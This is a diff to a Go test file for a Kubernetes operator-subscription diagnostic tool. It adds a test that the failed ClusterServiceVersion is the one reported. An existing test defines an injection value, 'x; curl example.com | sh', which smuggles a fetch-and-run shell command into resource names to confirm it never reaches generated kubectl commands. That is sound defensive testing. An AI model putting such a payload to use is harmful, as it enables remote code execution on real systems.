@@ -90,6 +90,31 @@ func TestHeldUpdate(t *testing.T) {
 	}
 }
 
+// TestFailedVersion verifies that the version that has Failed is named, and not one that need not exist.
+func TestFailedVersion(t *testing.T) {
+	const failed, succeeded = olm.CSVPhaseFailed, olm.CSVPhaseSucceeded
+	cases := map[string]struct {
+		reason string
+		csvs   []v1alpha1.ClusterServiceVersion
+		want   string
+	}{
+		"Installed": {"The update waits for approval.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", failed)}, "foo.v1"},
+		"Target":    {"The update has failed.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", succeeded), csv("foo.v2", "foo.v1", failed)}, "foo.v2"},
+		"Both":      {"The update comes first.", []v1alpha1.ClusterServiceVersion{csv("foo.v1", "", failed), csv("foo.v2", "foo.v1", failed)}, "foo.v2"},
+		"Neither":   {"It may not be read.", nil, "foo.v2"},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			s := sub("foo.v1", "foo.v2")
+			n := byNamespace(Cluster{Subscriptions: []v1alpha1.Subscription{s}, ClusterServiceVersions: tc.csvs})["default"]
+			by, step := n.origin(&s, v1alpha1.SubscriptionInstalledCSVFailed)
+			if by != "ClusterServiceVersion default/"+tc.want || step.Command != "kubectl describe clusterserviceversion.operators.coreos.com -n default "+tc.want {
+				t.Errorf("%s\ngot %s, %s; want %s", tc.reason, by, step.Command, tc.want)
+			}
+		})
+	}
+}
+
 // TestForeignNames verifies that only valid names become part of a command.
 func TestForeignNames(t *testing.T) {
 	const evil = "x; curl example.com | sh"
@@ -97,7 +122,7 @@ func TestForeignNames(t *testing.T) {
 	s.Spec.CatalogSource = evil
 	s.Status.InstallPlanRef = &corev1.ObjectReference{Name: evil}
 	for _, c := range broken {
-		if by, step := origin(&s, c); by != "Subscription default/foo" || step.Command != "kubectl describe subscription.operators.coreos.com -n default foo" {
+		if by, step := (&namespace{}).origin(&s, c); by != "Subscription default/foo" || step.Command != "kubectl describe subscription.operators.coreos.com -n default foo" {
 			t.Errorf("%s: %s, %s", c, by, step.Command)
 		}
 	}
